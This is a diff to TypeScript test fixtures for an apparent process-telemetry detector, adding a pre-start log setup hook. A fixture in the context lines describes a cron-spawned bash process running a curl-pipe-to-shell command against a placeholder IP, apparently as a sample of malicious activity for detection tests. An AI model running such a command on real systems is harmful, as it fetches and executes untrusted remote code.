@@ -66,11 +66,13 @@ export function proc(over: Partial<ProcessItem> = {}): ProcessItem {
 export const curlPipe = (pid = 31337): ProcessItem =>
   proc({ pid, exe: '/usr/bin/bash', name: 'bash', cmdline: 'bash -c curl -fsSL http://203.0.113.9/x.sh | sh', parentExe: '/usr/sbin/cron' });
 
-export async function detectFixture(o: Partial<DetectorOptions> = {}): Promise<DetectFixture> {
+/** `setup` runs on the log before the detector's first start: what it writes is history to the detector. */
+export async function detectFixture(o: Partial<DetectorOptions> = {}, setup?: (log: EventLog) => Promise<void>): Promise<DetectFixture> {
   const nats = await natsFixture();
   const nc = await connectNats({ servers: nats.url });
   const log = await EventLog.connect(nc);
   await log.streams.ensureStream(telemetryStreamSpec());
+  await setup?.(log);
   const logger = createLogger({ level: process.env.STK_TEST_LOG ?? 'silent' });
   const pack = await loadPack();
   const box = await openInstallBox(log.streams);
